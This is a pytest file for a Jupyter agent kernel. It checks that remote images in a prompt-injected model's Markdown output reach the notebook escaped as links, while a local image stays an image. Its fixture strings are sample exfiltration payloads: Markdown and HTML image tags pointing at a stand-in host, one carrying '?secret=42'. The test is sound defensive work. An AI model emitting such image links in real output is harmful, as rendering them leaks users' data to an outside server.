"""A prompt-injected model's remote image reaches the notebook as a link, never as an image to load.

A real kernel runs ``%%agent`` against the scripted OpenAI-compatible server (the real openai client); the
model's step text and its answer carry remote images in the forms a Markdown renderer would load. Every
``text/markdown`` the cell sends (the streamed text, the step's text, the answer) is read.
"""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from kernel_session import Kernel, configured_kernel

from codemode_kernel.llm.scripted import ScriptedModelServer, ScriptedToolCall, ScriptedTurn

LEAK = "http://127.0.0.1:9/leak?secret=42"
STEP_TEXT = "Checking the weather first. ![progress](//127.0.0.1:9/step.png)"
ANSWER = (
    f"**Miami** is warmest. ![chart]({LEAK}) ![plot](plot.png)\n\n"
    "![also][r] <img src=http://127.0.0.1:9/raw> <picture><source srcset=http://127.0.0.1:9/s></picture>\n\n"
    "[r]: HTTPS://127.0.0.1:9/ref.png"
)


@pytest.fixture(scope="module")
def server() -> Iterator[ScriptedModelServer]:
    with ScriptedModelServer() as scripted:
        yield scripted


@pytest.fixture(scope="module")
def agent_kernel(
    jupyter_path: Path, server: ScriptedModelServer, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Kernel]:
    notebook = tmp_path_factory.mktemp("agent-images")
    config = {
        "mcpServers": {
            "weather": {"command": sys.executable, "args": ["-m", "codemode_kernel.servers.weather"]}
        },
        "workspace": str(notebook),
        "models": [
            {"ref": "scripted", "provider": "openai", "model": "scripted", "baseUrl": server.base_url}
        ],
    }
    (notebook / "agent.json").write_text(json.dumps(config))
    with configured_kernel(jupyter_path, notebook, notebook / "agent.json") as kernel:
        yield kernel


def test_remote_images_in_model_text_reach_the_notebook_as_links(
    agent_kernel: Kernel, server: ScriptedModelServer
) -> None:
    program = 'print(get_weather(city="Miami").temperature)'
    server.add(
        ScriptedTurn(text=STEP_TEXT, tool_calls=[ScriptedToolCall("execute_python", {"code": program})]),
        ScriptedTurn(text=ANSWER),
    )
    reply = agent_kernel.run("%%agent\nWhich city is warmest?")
    assert reply.status == "ok", reply.content
    markdown = [
        m["content"]["data"]["text/markdown"]
        for m in reply.of_type("display_data", "update_display_data")
        if "text/markdown" in m["content"]["data"]
    ]
    step, answer = reply.data("text/markdown")
    assert "Checking the weather first." in step
    assert "&#33;[progress](//127.0.0.1:9/step.png)" in step  # a link to the same address
    assert f"&#33;[chart]({LEAK})" in answer and "**Miami**" in answer
    assert "![plot](plot.png)" in answer  # a local image stays
    assert "&#33;[also][r]" in answer
    assert "&lt;img src=http://127.0.0.1:9/raw>" in answer and "&lt;picture>" in answer
    for text in markdown:  # streamed, kept and final: no image but the local one, no tag but ours
        assert [
            image for image in re.findall(r"!\[[^\]]*\]\([^)]*\)", text) if image != "![plot](plot.png)"
        ] == []
        assert set(re.findall(r"</?([A-Za-z]+)", text)) <= {"div", "code"}
    assert reply.data()[-2] == ANSWER  # text/plain keeps what the model wrote
